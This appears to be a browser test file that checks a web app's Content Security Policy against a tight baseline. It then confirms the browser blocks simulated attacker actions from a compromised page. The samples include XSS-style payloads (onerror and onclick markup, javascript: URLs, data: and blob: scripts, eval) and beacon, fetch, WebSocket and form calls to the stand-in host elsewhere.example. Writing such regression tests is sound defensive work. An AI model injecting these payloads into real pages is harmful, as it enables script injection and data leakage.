// What the page may do stands in its policy, in the header and in the page itself, and the browser holds it to that.

import { inHeader, inPage } from "../../tools/csp.mjs";
import { expect, test } from "./fixtures.mjs";

/** Nothing looser than this. A directive that is not listed here falls under `default-src`. */
const TIGHT = {
  "default-src": ["'self'"],
  "script-src": ["'self'", "'wasm-unsafe-eval'"],
  "style-src": ["'self'"],
  "img-src": ["'self'", "data:", "blob:"],
  "connect-src": ["'self'"],
  "worker-src": ["'self'"],
  "object-src": ["'none'"],
  "base-uri": ["'self'"],
  "form-action": ["'none'"],
};

const parsed = (policy) => Object.fromEntries(policy.split(";").map((rule) => rule.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));

test("the policy stands in the header and in the page, and is as tight as ever", async ({ request }) => {
  for (const path of ["/", "/deals", "/record/x", "/404.html"]) {
    const response = await request.get(path);
    const header = response.headers()["content-security-policy"];
    expect(header).toBe(inHeader);
    expect(parsed(header)).toEqual({ ...TIGHT, "frame-ancestors": ["'none'"] });
    const page = await response.text();
    const meta = page.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/)?.[1];
    expect(meta).toBe(inPage);
    expect(parsed(meta)).toEqual(TIGHT);
    // It comes before anything that it is to hold.
    expect(page.indexOf("Content-Security-Policy")).toBeLessThan(page.search(/<(script|link|style|base)\b/));
    expect(page).not.toMatch(/<script(?![^>]*\ssrc=)|<style[\s>]|\sstyle=|\son\w+=/);
  }
});

/** What a page that has been broken into would try; each gives whether it came to pass. */
const attempts = {
  "eval": () => {
    try {
      return (0, eval)("1") === 1;
    } catch {
      return false;
    }
  },
  "a function made of text": () => {
    try {
      return new Function("return 1")() === 1;
    } catch {
      return false;
    }
  },
  "a timer made of text": async () => {
    try {
      setTimeout("window.pwned = 1", 0);
    } catch {
      // Refused at once.
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    return window.pwned === 1;
  },
  "an inline script": async () => {
    const script = document.createElement("script");
    script.textContent = "window.pwned = 1";
    document.body.append(script);
    return window.pwned === 1;
  },
  "a script made as data": async () => {
    const script = document.createElement("script");
    script.src = "data:text/javascript,window.pwned=1";
    const ended = new Promise((resolve) => (script.onload = script.onerror = resolve));
    document.body.append(script);
    await ended;
    return window.pwned === 1;
  },
  "a script made as a blob": async () => {
    const script = document.createElement("script");
    script.src = URL.createObjectURL(new Blob(["window.pwned = 1"], { type: "text/javascript" }));
    const ended = new Promise((resolve) => (script.onload = script.onerror = resolve));
    document.body.append(script);
    await ended;
    return window.pwned === 1;
  },
  "a handler in markup": async () => {
    const place = document.body.appendChild(document.createElement("div"));
    place.innerHTML = `<img src="data:," onerror="window.pwned=1"><button onclick="window.pwned=1"></button>`;
    place.querySelector("button").click();
    await new Promise((resolve) => setTimeout(resolve, 200));
    return window.pwned === 1;
  },
  "a style in markup": () => {
    const place = document.body.appendChild(document.createElement("div"));
    place.innerHTML = `<p style="color: rgb(1, 2, 3)"></p><style>p { color: rgb(1, 2, 3) }</style>`;
    return getComputedStyle(place.firstChild).color === "rgb(1, 2, 3)";
  },
  "a link to a script": async () => {
    const link = document.body.appendChild(document.createElement("a"));
    link.href = "javascript:window.pwned=1";
    link.click();
    await new Promise((resolve) => setTimeout(resolve, 200));
    return window.pwned === 1;
  },
  "going to a script": async () => {
    location.href = "javascript:window.pwned=1";
    await new Promise((resolve) => setTimeout(resolve, 200));
    return window.pwned === 1;
  },
  "a question to another host": () => fetch("https://elsewhere.example/").then(() => true, () => false),
  "a word to another host": async () => {
    const refused = new Promise((resolve) => document.addEventListener("securitypolicyviolation", () => resolve(false), { once: true }));
    navigator.sendBeacon("https://elsewhere.example/", "x");
    return Promise.race([refused, new Promise((resolve) => setTimeout(resolve, 1_000, true))]);
  },
  "a line to another host": async () => {
    try {
      const line = new WebSocket("wss://elsewhere.example/");
      return await new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", () => resolve(false), { once: true });
        line.onopen = () => resolve(true);
      });
    } catch {
      return false;
    }
  },
  "a picture from another host": async () => {
    const refused = new Promise((resolve) => document.addEventListener("securitypolicyviolation", () => resolve(false), { once: true }));
    new Image().src = "https://elsewhere.example/x.png";
    return Promise.race([refused, new Promise((resolve) => setTimeout(resolve, 1_000, true))]);
  },
  "a frame": async () => {
    const refused = new Promise((resolve) => document.addEventListener("securitypolicyviolation", () => resolve(false), { once: true }));
    const frame = document.createElement("iframe");
    frame.src = "https://elsewhere.example/";
    document.body.append(frame);
    return Promise.race([refused, new Promise((resolve) => setTimeout(resolve, 1_000, true))]);
  },
  "another base": () => {
    const base = document.createElement("base");
    base.href = "https://elsewhere.example/";
    document.head.prepend(base);
    return !document.baseURI.startsWith(location.origin);
  },
  "a form that is sent away": async () => {
    const refused = new Promise((resolve) => document.addEventListener("securitypolicyviolation", () => resolve(false), { once: true }));
    const form = document.createElement("form");
    form.action = "https://elsewhere.example/";
    document.body.append(form);
    form.submit();
    return Promise.race([refused, new Promise((resolve) => setTimeout(resolve, 1_000, true))]);
  },
  "a worker made as a blob": async () => {
    try {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      return await new Promise((resolve) => {
        worker.onmessage = () => resolve(true);
        worker.onerror = () => resolve(false);
      });
    } catch {
      return false;
    }
  },
};

/** The policy from one place alone: on most hosts there is only the page’s own. */
const places = {
  "header and page": () => {},
  "the page alone": (context) =>
    context.route("**/", async (route) => {
      const response = await route.fetch();
      const { "content-security-policy": _, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    }),
  "the header alone": (context) =>
    context.route("**/", async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
      await route.fulfill({ response, body });
    }),
};

for (const [where, arrange] of Object.entries(places)) {
  test(`with the policy in ${where}, a page that was broken into can neither carry out texts nor reach another host`, async ({ app }) => {
    await arrange(app.context);
    for (const [what, attempt] of Object.entries(attempts)) {
      await app.open("/");
      // In a task of the page's own: what a debugger asks for directly is let pass by the browser.
      const later = `new Promise((told) => setTimeout(async () => told(await (${attempt})())))`;
      expect(await app.page.evaluate(later), what).toBe(false);
      const problems = app.takeProblems();
      expect(problems.filter((line) => line.startsWith("left the origin") && !/elsewhere/.test(line)), what).toEqual([]);
      expect(await app.page.evaluate(() => window.pwned), what).toBeUndefined();
    }
  });
}
